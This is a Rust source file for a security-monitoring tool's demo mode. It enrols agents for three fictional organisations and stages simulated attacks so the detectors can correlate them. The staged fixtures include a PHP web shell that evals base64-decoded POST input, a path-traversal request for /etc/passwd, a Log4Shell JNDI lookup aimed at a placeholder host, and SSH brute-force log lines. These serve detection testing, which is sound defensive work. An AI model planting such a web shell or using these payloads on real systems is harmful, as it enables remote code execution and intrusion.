//! `vedetta-collector demo`: the quick start. A collector with its embedded database in a
//! local folder, one agent for each of three organisations enrolled over real QUIC on
//! loopback, each running its real sources and detectors on a small host of its own:
//!
//! * an sshd log where the same internet address tries passwords at all three members
//!   (and, at the bank, finally gets in), with ordinary staff logins around it;
//! * a web server log with a scanner and exploit attempts (at the municipality);
//! * a watched tree where the same malware sample is dropped in `/tmp` at all three, and a
//!   web shell lands in the hospital's web root.
//!
//! The collector then holds what the detectors found, and the demo shows the indicators
//! seen by more than one organisation.

use crate::config::CollectorConfig;
use crate::enroll::new_token;
use crate::pki::{self, PkiPaths};
use crate::server::{self, database_path};
use crate::store::{SignalFilter, SqliteStore, Store};
use anyhow::Context as _;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};
use vedetta_agent::config::AgentConfig;
use vedetta_agent::detect::files as file_rules;
use vedetta_agent::sources::files::FileSource;
use vedetta_agent::state::StatePaths;
use vedetta_common::Timestamp;
use vedetta_common::files::create_private_dir;

const MARKER: &str = ".vedetta-demo";
const ORGS: [(&str, &str); 3] = [
    ("comune-esempio", "Comune di Esempio"),
    ("banca-esempio", "Banca Esempio S.p.A."),
    ("ospedale-esempio", "Ospedale Esempio"),
];
/// The shared attacker (TEST-NET-3, never routed).
const ATTACKER: &str = "203.0.113.7";

/// Prepares a fresh demo folder, refusing to wipe anything that is not a demo.
fn fresh_folder(dir: &Path) -> anyhow::Result<()> {
    if dir.exists() {
        anyhow::ensure!(
            dir.join(MARKER).exists(),
            "{} exists and is not a demo folder; choose another --data-dir",
            dir.display()
        );
        std::fs::remove_dir_all(dir)?;
    }
    create_private_dir(dir)?;
    std::fs::write(dir.join(MARKER), "created by vedetta-collector demo\n")?;
    Ok(())
}

/// The same bytes at every member: one hash, one campaign to be.
const MALWARE_SAMPLE: &[u8] =
    b"\x7fELF\x02\x01\x01\0vedetta demo sample: a harmless stand-in for a miner dropper\n";

/// An rsyslog (ISO 8601) sshd line, `minutes` before now.
fn sshd_line(now: Timestamp, seconds_ago: i64, message: &str) -> String {
    let at = Timestamp(now.0 - seconds_ago * 1_000_000_000);
    format!(
        "{} host1 sshd[{}]: {message}\n",
        at.to_rfc3339(),
        4000 + seconds_ago
    )
}

/// The sshd log of one member: staff logins, and the shared attacker's attempts.
fn auth_log(org_index: usize, now: Timestamp) -> String {
    let mut log = String::new();
    log += &sshd_line(
        now,
        600,
        "Accepted publickey for deploy from 10.0.0.5 port 50122 ssh2: ED25519 SHA256:x",
    );
    // A typo then the right password: not an attack.
    log += &sshd_line(
        now,
        590,
        "Failed password for alice from 10.0.0.8 port 50200 ssh2",
    );
    log += &sshd_line(
        now,
        585,
        "Accepted password for alice from 10.0.0.8 port 50201 ssh2",
    );
    let attempts = 12 + 4 * org_index as i64;
    for n in 0..attempts {
        let user = ["root", "admin", "oracle"][n as usize % 3];
        let invalid = if user == "root" { "" } else { "invalid user " };
        log += &sshd_line(
            now,
            300 - n * 10,
            &format!(
                "Failed password for {invalid}{user} from {ATTACKER} port {} ssh2",
                40000 + n
            ),
        );
    }
    if org_index == 1 {
        // At the bank, the attacker finally guesses root's password.
        log += &sshd_line(
            now,
            30,
            &format!("Accepted password for root from {ATTACKER} port 41000 ssh2"),
        );
    }
    log
}

/// The web server log of the municipality: ordinary visits, a scanner, exploit attempts.
fn access_log(now: Timestamp) -> String {
    let at = time::OffsetDateTime::from_unix_timestamp_nanos(i128::from(now.0))
        .unwrap_or(time::OffsetDateTime::UNIX_EPOCH);
    let stamp = format!(
        "{:02}/{}/{}:{:02}:{:02}:{:02} +0000",
        at.day(),
        &format!("{:?}", at.month())[..3],
        at.year(),
        at.hour(),
        at.minute(),
        at.second()
    );
    let mut log = String::new();
    for n in 0..20 {
        log += &format!(
            "192.0.2.{n} - - [{stamp}] \"GET /servizi/{n} HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\"\n"
        );
    }
    for n in 0..40 {
        log += &format!(
            "{SCANNER} - - [{stamp}] \"GET /admin{n}.php HTTP/1.1\" 404 162 \"-\" \"sqlmap/1.8\"\n"
        );
    }
    log += &format!(
        "{SCANNER} - - [{stamp}] \"GET /cgi-bin/../../../../etc/passwd HTTP/1.1\" 400 162 \"-\" \"sqlmap/1.8\"\n"
    );
    log += &format!(
        "{SCANNER} - - [{stamp}] \"GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F{SCANNER}%2Fa%7D HTTP/1.1\" 200 162 \"-\" \"curl/8.5\"\n"
    );
    log
}

/// The web scanner at the municipality (TEST-NET-2, never routed).
const SCANNER: &str = "198.51.100.23";

/// One member's host: its logs and watched tree, and the agent configuration for them.
fn agent_config(agent_dir: &Path) -> String {
    let host = agent_dir.join("host");
    format!(
        "state_dir = \"state\"\n\
         [uplink]\nheartbeat_interval = \"2s\"\n\
         [[sources.logs]]\npaths = [\"{logs}/auth.log\"]\nstart_at = \"beginning\"\n\
         [[sources.logs]]\npaths = [\"{logs}/access.log\"]\nformat = \"nginx\"\nstart_at = \"beginning\"\n\
         [sources.files]\npaths = [\"{host}\"]\nweb_roots = [\"{host}/var/www\"]\ndrop_dirs = [\"{host}/tmp\"]\n",
        logs = agent_dir.join("logs").display(),
        host = host.display(),
    )
}

/// Lays out one member's host, builds its file baseline (as at installation), then
/// plays the incident: the logs fill, the sample and a web shell arrive.
fn stage_host(agent_dir: &Path, config: &AgentConfig, org_index: usize) -> anyhow::Result<()> {
    let host = agent_dir.join("host");
    for sub in ["etc/ssh", "tmp", "var/www/html/upload"] {
        std::fs::create_dir_all(host.join(sub))?;
    }
    std::fs::write(host.join("etc/ssh/sshd_config"), "PermitRootLogin no\n")?;
    std::fs::write(host.join("var/www/html/index.html"), "<h1>Benvenuti</h1>\n")?;
    let files = config
        .sources
        .files
        .as_ref()
        .context("the demo configuration watches files")?;
    let rules = file_rules::load(None).map_err(|e| anyhow::anyhow!("{e:?}"))?;
    FileSource::open(files, &StatePaths::new(&config.state_dir).dir, rules)?.build()?;

    let logs = agent_dir.join("logs");
    std::fs::create_dir_all(&logs)?;
    let now = Timestamp::now();
    std::fs::write(logs.join("auth.log"), auth_log(org_index, now))?;
    let access = if org_index == 0 {
        access_log(now)
    } else {
        String::new()
    };
    std::fs::write(logs.join("access.log"), access)?;
    let sample = host.join("tmp/.x11-cache");
    std::fs::write(&sample, MALWARE_SAMPLE)?;
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&sample, std::fs::Permissions::from_mode(0o755))?;
    if org_index == 2 {
        std::fs::write(
            host.join("var/www/html/upload/thumb.php"),
            "<?php @eval(base64_decode($_POST['k'])); ?>\n",
        )?;
    }
    Ok(())
}

/// What the detectors must have reported before the picture is shown: (org, kind).
fn expected() -> BTreeSet<(&'static str, &'static str)> {
    let mut expected = BTreeSet::new();
    for (org, _) in ORGS {
        expected.insert((org, "ssh_bruteforce"));
        expected.insert((org, "suspicious_file"));
    }
    expected.insert((ORGS[1].0, "ssh_login_after_failures"));
    expected.insert((ORGS[0].0, "web_scan"));
    expected.insert((ORGS[0].0, "web_exploit_attempt"));
    expected.insert((ORGS[2].0, "webshell_suspected"));
    expected
}

/// Runs the demo; with `exit_when_done`, returns once the picture is printed.
pub fn run(data_dir: Option<PathBuf>, exit_when_done: bool) -> anyhow::Result<()> {
    let dir = data_dir.unwrap_or_else(|| PathBuf::from("vedetta-demo"));
    fresh_folder(&dir)?;
    let collector_dir = dir.join("collector");
    create_private_dir(&collector_dir)?;
    pki::create(&PkiPaths::in_dir(&collector_dir), "Vedetta demo CA")?;
    let mut store = SqliteStore::open(&database_path(&collector_dir))?;
    let listen = "127.0.0.1:0".parse()?;
    std::fs::write(
        collector_dir.join(crate::config::FILE_NAME),
        CollectorConfig::new(listen, "127.0.0.1:0".parse()?).to_toml(),
    )?;
    for (id, name) in ORGS {
        store.add_org(id, name, Timestamp::now())?;
    }

    let runtime = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()?;
    runtime.block_on(async {
        // The dashboard at a port people can remember, when it is free.
        let port = if std::net::TcpListener::bind(("127.0.0.1", 8443)).is_ok() {
            8443
        } else {
            0
        };
        let collector =
            server::start(&collector_dir, None, Some(([127, 0, 0, 1], port).into())).await?;
        println!(
            "Vedetta demo — collector on udp://{} (data in {})",
            collector.quic_addr,
            dir.display()
        );
        let (stop_agents, _) = tokio::sync::watch::channel(false);
        let mut agents = Vec::new();
        for (index, (org, name)) in ORGS.iter().enumerate() {
            let (token, hash) = new_token().map_err(|_| anyhow::anyhow!("no system randomness"))?;
            let now = Timestamp::now();
            store.create_enrollment_token(&hash, org, now, Timestamp(now.0 + 600_000_000_000))?;
            let agent_dir = dir.join(format!("agent-{org}"));
            let config_path = agent_dir.join("agent.toml");
            create_private_dir(&agent_dir)?;
            std::fs::write(&config_path, agent_config(&agent_dir))?;
            let config = AgentConfig::load(&config_path)?;
            let paths = StatePaths::new(&config.state_dir);
            let enrollment = vedetta_agent::enroll::enroll(
                &paths,
                &collector.quic_addr.to_string(),
                &token,
                &collector.ca_fingerprint,
                &format!("demo host of {name}"),
            )
            .await
            .with_context(|| format!("enrolling the agent of {org}"))?;
            println!("  enrolled agent {} for {name}", enrollment.agent_id);
            stage_host(&agent_dir, &config, index)?;
            let mut stop = stop_agents.subscribe();
            agents.push(tokio::spawn(vedetta_agent::run::run(
                config,
                false,
                async move {
                    let _ = stop.wait_for(|stop| *stop).await;
                },
            )));
        }

        let expected = expected();
        let deadline = Instant::now() + Duration::from_secs(60);
        let database = database_path(&collector_dir);
        let found = |store: &mut SqliteStore| -> anyhow::Result<BTreeSet<(String, String)>> {
            let all = store
                .signals(&SignalFilter {
                    limit: 10_000,
                    ..SignalFilter::default()
                })?
                .items;
            Ok(all.into_iter().map(|s| (s.org, s.signal.kind)).collect())
        };
        let mut reader = SqliteStore::open(&database)?;
        loop {
            let found = found(&mut reader)?;
            let missing: Vec<_> = expected
                .iter()
                .filter(|(org, kind)| !found.contains(&((*org).to_owned(), (*kind).to_owned())))
                .collect();
            if missing.is_empty() {
                break;
            }
            anyhow::ensure!(
                Instant::now() < deadline,
                "the detections did not all arrive within 60 s; missing {missing:?}"
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        print_picture(&mut reader)?;
        // An analyst's token, to look around with the API and `query`.
        let token = crate::api::auth::new_token()
            .map_err(|_| anyhow::anyhow!("no system randomness"))?;
        store.add_user(
            &crate::store::ApiUser {
                name: "demo-analyst".into(),
                role: crate::store::Role::Analyst,
                org: None,
                created_at: Timestamp::now(),
                revoked_at: None,
            },
            &crate::api::auth::token_hash(&token),
        )?;
        let token_file = dir.join("analyst.token");
        vedetta_common::files::write_private(&token_file, token.as_bytes())?;
        println!(
            "\nDashboard: https://localhost:{port}/ui/\n  log in with the analyst token {token}\n  (the certificate is the demo collector's own CA, {ca}: import it into the browser, or accept the warning for this local demo)\n\nOr ask the API from the command line:\n  vedetta-collector query campaigns --url https://localhost:{port} --ca {ca} --token-file {file}",
            port = collector.http_addr.port(),
            ca = collector_dir.join("ca.crt").display(),
            file = token_file.display()
        );

        if exit_when_done {
            println!("demo complete; stopping");
        } else {
            println!("\nThe collector keeps running with its agents. Press Ctrl-C to stop.");
            vedetta_common::shutdown::terminated().await?;
        }
        stop_agents.send_replace(true);
        for agent in agents {
            agent.await??;
        }
        collector.stop().await;
        anyhow::Ok(())
    })
}

fn print_picture(store: &mut SqliteStore) -> anyhow::Result<()> {
    let mut signals = store
        .signals(&SignalFilter {
            limit: 10_000,
            ..SignalFilter::default()
        })?
        .items;
    // Oldest first, as they happened.
    signals.reverse();
    println!(
        "\nSignals stored by the collector (org and agent taken from each agent's certificate):"
    );
    println!(
        "  {:<18} {:<26} {:<10} {:>6}  indicator",
        "org", "kind", "severity", "count"
    );
    for stored in signals.iter().filter(|s| s.signal.kind != "agent_health") {
        let indicator = stored
            .signal
            .indicators
            .first()
            .map(|i| i.value.as_str())
            .unwrap_or("-");
        println!(
            "  {:<18} {:<26} {:<10} {:>6}  {indicator}",
            stored.org, stored.signal.kind, stored.signal.severity, stored.signal.count
        );
    }
    // The correlator's view: campaigns across organisations, incidents inside one.
    let campaigns = store
        .campaigns(&crate::store::CampaignFilter::default())?
        .items;
    println!("\nCampaigns correlated across organisations:");
    for campaign in campaigns.iter().rev() {
        let orgs = campaign.org_names();
        println!(
            "  {} {} — {} organisations: {} (campaign {}, {}, score {}; {})",
            campaign.indicator.kind.as_str(),
            campaign.indicator.value,
            orgs.len(),
            orgs.join(", "),
            campaign.id,
            campaign.severity,
            campaign.score,
            campaign
                .kinds
                .iter()
                .cloned()
                .collect::<Vec<_>>()
                .join(", ")
        );
    }
    let incidents = store
        .incidents(&crate::store::IncidentFilter::default())?
        .items;
    if !incidents.is_empty() {
        println!("\nIncidents (a chain of steps inside one organisation):");
        for incident in incidents.iter().rev() {
            println!(
                "  {:<18} {} from {}: {} ({})",
                incident.org,
                incident.chain,
                incident.key,
                incident.steps.join(" → "),
                incident.severity
            );
        }
    }
    Ok(())
}
